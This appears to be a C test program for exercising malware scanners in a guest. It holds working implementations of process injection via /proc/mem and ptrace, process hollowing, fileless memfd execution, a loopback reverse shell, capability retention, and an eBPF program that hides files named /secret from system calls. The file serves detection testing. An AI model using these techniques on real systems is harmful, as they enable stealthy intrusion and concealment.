// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What malware does to processes, one technique for each word, harmless and real: planted in a
 * guest for the test of the scanners. Each says READY once it is done, and then sleeps.
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/if_ether.h>
#include <linux/perf_event.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static void need(int good, const char *what)
{
	if (good)
		return;
	fprintf(stderr, "bad: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void ready(void)
{
	puts("READY");
	fflush(stdout);
	for (;;)
		pause();
}

/* ---- injection into another process ---- */

/* Where the first executable mapping of a file begins. */
static uint64_t text_of(int pid)
{
	unsigned long start, end;
	char name[64], line[512], perms[8];
	FILE *f;

	snprintf(name, sizeof(name), "/proc/%d/maps", pid);
	f = fopen(name, "r");
	need(f != NULL, name);
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) == 3 && perms[2] == 'x') {
			fclose(f);
			return start;
		}
	}
	need(0, "no code");
	return 0;
}

static const uint8_t patch[16] = {0x90, 0x90, 0x90, 0x90, 0x31, 0xc0, 0x31, 0xff,
				  0x90, 0x90, 0x90, 0x90, 0xeb, 0xfe, 0x90, 0x90};

static void inject_mem(int pid)
{
	char name[64];
	int fd;

	snprintf(name, sizeof(name), "/proc/%d/mem", pid);
	fd = open(name, O_RDWR);
	need(fd >= 0, name);
	need(pwrite(fd, patch, sizeof(patch), (off_t)text_of(pid) + 0x40) == sizeof(patch),
	     "writing to another's code");
	ready();
}

static void inject_ptrace(int pid)
{
	uint64_t at = text_of(pid) + 0x40, word;

	need(!ptrace(PTRACE_ATTACH, pid, NULL, NULL), "ptrace");
	need(waitpid(pid, NULL, 0) == pid, "waiting for it to stop");
	for (size_t i = 0; i < sizeof(patch); i += 8) {
		memcpy(&word, patch + i, 8);
		need(!ptrace(PTRACE_POKETEXT, pid, at + i, word), "poking");
	}
	need(!ptrace(PTRACE_CONT, pid, NULL, NULL), "going on");
	ready(); /* and stays its tracer */
}

/* In the stopped process: one system call, by code that its text had elsewhere. */
static uint64_t call_in(int pid, uint64_t at, const struct user_regs_struct *base, long number,
			uint64_t a, uint64_t b, uint64_t c, uint64_t d)
{
	struct user_regs_struct r = *base;
	uint64_t old = (uint64_t)ptrace(PTRACE_PEEKTEXT, pid, at, NULL);
	uint64_t code = (old & ~0xffffffull) | 0xcc050f; /* syscall; int3 */

	need(!ptrace(PTRACE_POKETEXT, pid, at, code), "poking");
	r.rip = at;
	r.rax = (uint64_t)number;
	r.rdi = a;
	r.rsi = b;
	r.rdx = c;
	r.r10 = d;
	r.r8 = (uint64_t)-1;
	r.r9 = 0;
	need(!ptrace(PTRACE_SETREGS, pid, NULL, &r), "registers");
	need(!ptrace(PTRACE_CONT, pid, NULL, NULL) && waitpid(pid, NULL, 0) == pid, "calling");
	need(!ptrace(PTRACE_GETREGS, pid, NULL, &r), "registers");
	ptrace(PTRACE_POKETEXT, pid, at, old);
	return r.rax;
}

/* Start a program, and have other code run in its place: process hollowing. */
static void hollow(char **argv)
{
	/* loop: pause(); jmp loop */
	static const uint64_t code[] = {0x050f00000022b890, 0x90909090f5eb9090};
	struct user_regs_struct base, r;
	uint64_t place, text, end;
	char name[64], line[512];
	int pid = fork();
	FILE *f;

	if (!pid) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		execv(argv[0], argv);
		_exit(1);
	}
	need(waitpid(pid, NULL, 0) == pid, "starting the program");
	need(!ptrace(PTRACE_GETREGS, pid, NULL, &base), "registers");
	text = text_of(pid);
	place = call_in(pid, base.rip, &base, SYS_mmap, 0, 0x4000,
			PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS);
	need(place < -4096ull, "mmap in the program");
	for (size_t i = 0; i < 2; i++)
		need(!ptrace(PTRACE_POKETEXT, pid, place + 8 * i, code[i]), "poking");
	call_in(pid, place + 0x100, &base, SYS_mprotect, place, 0x4000, PROT_READ | PROT_EXEC, 0);
	/* Take away every mapping of its own file. */
	snprintf(name, sizeof(name), "/proc/%d/maps", pid);
	f = fopen(name, "r");
	need(f != NULL, name);
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "%lx-%lx", &text, &end) == 2 && strstr(line, argv[0]))
			call_in(pid, place + 0x100, &base, SYS_munmap, text, end - text, 0, 0);
	fclose(f);
	r = base;
	r.rip = place;
	need(!ptrace(PTRACE_SETREGS, pid, NULL, &r), "registers");
	need(!ptrace(PTRACE_DETACH, pid, NULL, NULL), "letting it go");
	printf("PID %d\n", pid);
	ready();
}

/* ---- a library without a file ---- */

static void load_by_hand(const char *path, int stripped)
{
	Elf64_Ehdr head;
	Elf64_Phdr h;
	uint64_t size = 0;
	uint8_t *to;
	int fd = open(path, O_RDONLY);

	need(fd >= 0 && read(fd, &head, sizeof(head)) == sizeof(head), path);
	for (int i = 0; i < head.e_phnum; i++) {
		need(pread(fd, &h, sizeof(h), (off_t)(head.e_phoff + (uint64_t)i * sizeof(h))) ==
			 sizeof(h),
		     path);
		if (h.p_type == PT_LOAD && h.p_vaddr + h.p_memsz > size)
			size = (h.p_vaddr + h.p_memsz + 4095) & -4096ull;
	}
	to = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	need(to != MAP_FAILED, "mmap");
	for (int i = 0; i < head.e_phnum; i++) {
		pread(fd, &h, sizeof(h), (off_t)(head.e_phoff + (uint64_t)i * sizeof(h)));
		if (h.p_type == PT_LOAD)
			need(pread(fd, to + h.p_vaddr, h.p_filesz, (off_t)h.p_offset) ==
				 (ssize_t)h.p_filesz,
			     path);
	}
	if (stripped)
		memset(to, 0, 4096);
	for (int i = 0; i < head.e_phnum; i++) {
		uint64_t start;

		pread(fd, &h, sizeof(h), (off_t)(head.e_phoff + (uint64_t)i * sizeof(h)));
		start = h.p_vaddr & -4096ull;
		if (h.p_type == PT_LOAD)
			mprotect(to + start, h.p_vaddr + h.p_memsz - start,
				 (h.p_flags & PF_R ? PROT_READ : 0) |
				     (h.p_flags & PF_W ? PROT_WRITE : 0) |
				     (h.p_flags & PF_X ? PROT_EXEC : 0));
	}
	close(fd);
	ready();
}

/*
 * The same of a library of 32 bits, as one looks that was put there and then had its headers wiped
 * out: what is left to know it by is its dynamic section.
 */
static void load_small(void)
{
	static const Elf32_Dyn section[] = {
	    {DT_GNU_HASH, {0x1b4}}, {DT_STRTAB, {0x2a4}},  {DT_SYMTAB, {0x1f4}}, {DT_STRSZ, {0x9c}},
	    {DT_SYMENT, {16}},      {DT_PLTGOT, {0x3ff4}}, {DT_REL, {0x35c}},    {DT_RELSZ, {0x40}},
	    {DT_RELENT, {8}},       {DT_VERNEED, {0x32c}}, {DT_NULL, {0}},
	};
	uint8_t *to =
	    mmap(NULL, 0x5000, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	need(to != MAP_FAILED, "mmap");
	memcpy(to + 0x1000, patch, sizeof(patch));
	memcpy(to + 0x3f14, section, sizeof(section));
	need(!mprotect(to + 0x1000, 0x1000, PROT_READ | PROT_EXEC), "mprotect");
	ready();
}

/* ---- threads ---- */

static void *second_thread(void *spins)
{
	while (spins)
		;
	for (;;)
		pause();
	return NULL;
}

static void with_thread(int spins)
{
	pthread_t thread;

	need(!pthread_create(&thread, NULL, second_thread, spins ? &thread : NULL), "a thread");
	ready();
}

/* ---- names, sockets, rights ---- */

static void call_itself(char **argv, const char *name)
{
	prctl(PR_SET_NAME, name, 0, 0, 0);
	memset(argv[0], 0, strlen(argv[0]));
	ready();
}

static void reverse_shell(const char *shell)
{
	struct sockaddr_in at = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	socklen_t size = sizeof(at);
	int listener = socket(AF_INET, SOCK_STREAM, 0), s = socket(AF_INET, SOCK_STREAM, 0), pid;

	need(!bind(listener, (void *)&at, sizeof(at)) && !listen(listener, 1) &&
		 !getsockname(listener, (void *)&at, &size),
	     "listening");
	pid = fork();
	if (!pid) {
		if (connect(s, (void *)&at, sizeof(at)))
			_exit(1);
		for (int fd = 0; fd < 3; fd++)
			dup2(s, fd);
		execl(shell, "sh", "-i", NULL);
		_exit(1);
	}
	need(accept(listener, NULL, NULL) >= 0, "accept");
	sleep(1);
	printf("PID %d\n", pid);
	ready();
}

static void from_memory(void)
{
	char buffer[65536];
	int from = open("/proc/self/exe", O_RDONLY), to = memfd_create("cache", 0);
	char *argv[] = {"cache", "listen", NULL}, *none[] = {NULL};
	ssize_t n;

	need(from >= 0 && to >= 0, "memfd");
	while ((n = read(from, buffer, sizeof(buffer))) > 0)
		need(write(to, buffer, (size_t)n) == n, "writing");
	close(from);
	fexecve(to, argv, none);
	need(0, "fexecve");
}

static void keep_rights(void)
{
	struct __user_cap_header_struct head = {.version = _LINUX_CAPABILITY_VERSION_3};
	struct __user_cap_data_struct data[2] = {{0}};

	prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0);
	need(!setuid(1000), "setuid");
	data[0].effective = data[0].permitted = 1u << CAP_SYS_PTRACE | 1u << CAP_SYS_MODULE;
	need(!syscall(SYS_capset, &head, data), "capset");
	ready();
}

/* ---- eBPF ---- */

#define INSN(c, d, s, o, i)                                                                        \
	{                                                                                          \
		.code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (i)                \
	}
#define MOV(d, s) INSN(BPF_ALU64 | BPF_MOV | BPF_X, d, s, 0, 0)
#define MOVI(d, i) INSN(BPF_ALU64 | BPF_MOV | BPF_K, d, 0, 0, i)
#define ADDI(d, i) INSN(BPF_ALU64 | BPF_ADD | BPF_K, d, 0, 0, i)
#define LOAD(d, s, o) INSN(BPF_LDX | BPF_MEM | BPF_DW, d, s, o, 0)
#define STORE(d, o, i) INSN(BPF_ST | BPF_MEM | BPF_DW, d, 0, o, i)
#define CALL_HELPER(i) INSN(BPF_JMP | BPF_CALL, 0, 0, 0, i)
#define UNLESS(d, s, o) INSN(BPF_JMP | BPF_JNE | BPF_X, d, s, o, 0)
#define LOAD64(d, v)                                                                               \
	INSN(BPF_LD | BPF_DW | BPF_IMM, d, 0, 0, (int32_t)(v)),                                    \
	    INSN(0, 0, 0, 0, (int32_t)((uint64_t)(v) >> 32))

/*
 * Hide whatever is named /secret...: at each system call whose second argument points to such a
 * name, the name is made empty before the kernel reads it.
 */
static void hide_by_bpf(void)
{
	const struct bpf_insn program[] = {
	    MOV(6, 1),
	    LOAD(7, 6, 0), /* struct pt_regs * */
	    MOV(1, 10),
	    ADDI(1, -8),
	    MOVI(2, 8),
	    MOV(3, 7),
	    ADDI(3, 104), /* rsi */
	    CALL_HELPER(BPF_FUNC_probe_read_kernel),
	    LOAD(8, 10, -8),
	    STORE(10, -16, 0),
	    MOV(1, 10),
	    ADDI(1, -16),
	    MOVI(2, 7),
	    MOV(3, 8),
	    CALL_HELPER(BPF_FUNC_probe_read_user),
	    LOAD(1, 10, -16),
	    LOAD64(2, 0x007465726365732full), /* "/secret" */
	    UNLESS(1, 2, 6),
	    STORE(10, -24, 0),
	    MOV(1, 8),
	    MOV(2, 10),
	    ADDI(2, -24),
	    MOVI(3, 1),
	    CALL_HELPER(BPF_FUNC_probe_write_user),
	    MOVI(0, 0),
	    INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
	};
	static char log[65536], name[] = "/secret"; /* the name must be writable */
	union bpf_attr load = {
	    .prog_type = BPF_PROG_TYPE_RAW_TRACEPOINT,
	    .insns = (uint64_t)(uintptr_t)program,
	    .insn_cnt = sizeof(program) / sizeof(program[0]),
	    .license = (uint64_t)(uintptr_t) "GPL",
	    .prog_name = "innocent",
	    .log_buf = (uint64_t)(uintptr_t)log,
	    .log_size = sizeof(log),
	    .log_level = 1,
	};
	union bpf_attr attach = {.raw_tracepoint.name = (uint64_t)(uintptr_t) "sys_enter"};
	int fd = (int)syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof(load));

	if (fd < 0)
		fprintf(stderr, "%s\n", log);
	need(fd >= 0, "loading a program");
	attach.raw_tracepoint.prog_fd = (uint32_t)fd;
	fd = (int)syscall(SYS_bpf, BPF_RAW_TRACEPOINT_OPEN, &attach, sizeof(attach));
	need(fd >= 0, "attaching it");
	close(creat("/secret", 0600)); /* its name is the first argument */
	need(syscall(SYS_faccessat, AT_FDCWD, name, F_OK), "the file is still to be seen");
	ready();
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "", *with = argc > 2 ? argv[2] : "";
	struct sockaddr_in at = {.sin_family = AF_INET};

	if (!strcmp(what, "inject-mem"))
		inject_mem(atoi(with));
	if (!strcmp(what, "inject-ptrace"))
		inject_ptrace(atoi(with));
	if (!strcmp(what, "hollow") && argc > 2)
		hollow(argv + 2);
	if (!strcmp(what, "elf"))
		load_by_hand(with, 0);
	if (!strcmp(what, "stripped"))
		load_by_hand(with, 1);
	if (!strcmp(what, "small"))
		load_small();
	if (!strcmp(what, "threads") || !strcmp(what, "spin"))
		with_thread(what[0] == 's');
	if (!strcmp(what, "name"))
		call_itself(argv, with);
	if (!strcmp(what, "user"))
		need(!setgid(1000) && !setuid(1000), "setuid");
	if (!strcmp(what, "sleep") || !strcmp(what, "user"))
		ready();
	if (!strcmp(what, "as") && argc > 3) {
		execl(with, argv[3], "sleep", NULL);
		need(0, with);
	}
	if (!strcmp(what, "shell"))
		reverse_shell(with);
	if (!strcmp(what, "memfd"))
		from_memory();
	if (!strcmp(what, "listen")) {
		int s = socket(AF_INET, SOCK_STREAM, 0);

		need(!bind(s, (void *)&at, sizeof(at)) && !listen(s, 1), "listening");
		ready();
	}
	if (!strcmp(what, "packet")) {
		need(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) >= 0, "packet socket");
		ready();
	}
	if (!strcmp(what, "raw")) {
		need(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP) >= 0, "raw socket");
		ready();
	}
	if (!strcmp(what, "rwx")) {
		need(mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0) != MAP_FAILED,
		     "mmap");
		ready();
	}
	if (!strcmp(what, "rights"))
		keep_rights();
	if (!strcmp(what, "bpf"))
		hide_by_bpf();
	fprintf(stderr, "bad: no technique '%s'\n", what);
	return 2;
}
